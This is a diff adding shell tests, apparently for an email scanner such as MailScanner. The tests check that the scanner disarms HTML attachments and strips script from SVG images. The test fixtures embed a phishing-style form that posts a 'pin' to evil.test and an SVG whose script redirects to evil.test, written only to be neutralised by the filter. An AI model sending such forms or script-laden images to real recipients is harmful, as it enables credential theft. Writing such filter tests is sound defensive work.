@@ -80,6 +80,54 @@ ok "a form that is not allowed" ms_once
 is "the subject says so" "$(subject)" "{Dangerous Content?} log in here"
 ok "the whole message is replaced" eval '! body | grep -q "evil.test/\""'
 
+# A part of that type and disposition with a form and a script, base64, beside a text.
+page() { # file type disposition name
+	cat >"$scratch/$1.eml" <<END
+From: Alice <alice@sender.test>
+To: bob@example.test
+Subject: see the page
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="page"
+
+--page
+Content-Type: text/plain
+
+Please log in.
+--page
+Content-Type: $2; name="$4"
+Content-Disposition: $3; filename="$4"
+Content-Transfer-Encoding: base64
+
+$(base64)
+--page--
+END
+}
+decoded() {
+	body | sed -n '/^Content-Transfer-Encoding: base64/,/^--page--/p' | sed '1,2d;$d' | base64 -d
+}
+html='<html><body><form action="https://evil.test/"><input name="pin"></form><b>left</b></body></html>'
+svg='<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.test/"</script><g onclick="x()"/></svg>'
+page named text/html inline page.html <<<"$html"
+page attached text/html attachment page.html <<<"$html"
+page stream application/octet-stream attachment page.htm <<<"$html"
+page svg image/svg+xml attachment picture.svg <<<"$svg"
+any=("Filename Rules =" "Filetype Rules =")
+for file in named attached stream; do
+	put "$file" "${any[@]}"
+	ok "a page ($file)" ms_once
+	ok "its form is disarmed" eval 'decoded | grep -q "<MailScannerForm[0-9]* .*<b>left</b>"'
+	is "and the subject says so" "$(subject)" "{Disarmed} see the page"
+	put "$file" "${any[@]}" "Disarm HTML Attachments = no"
+	ok "that is done to attachments only where the site wants it" ms_once
+	is "but to what is shown always ($file)" "$(decoded | grep -c '<form')" "$([ "$file" = named ] && echo 0 || echo 1)"
+done
+put svg "${any[@]}"
+ok "a picture with script" ms_once
+ok "that is none any more" eval 'decoded | grep -q "^<svg.*</svg>" && ! decoded | grep -q -e "<script" -e onclick='
+put svg "${any[@]}" "Allow Script Tags = no" "Silent Viruses ="
+ok "where script is not allowed" ms_once
+is "the picture is replaced" "$(body | grep -c picture.svg)" 2
+
 for mail in text attachment html-alternative bounce eight-bit odd-headers; do
 	put "$mail"
 	ok "$mail: once" ms_once
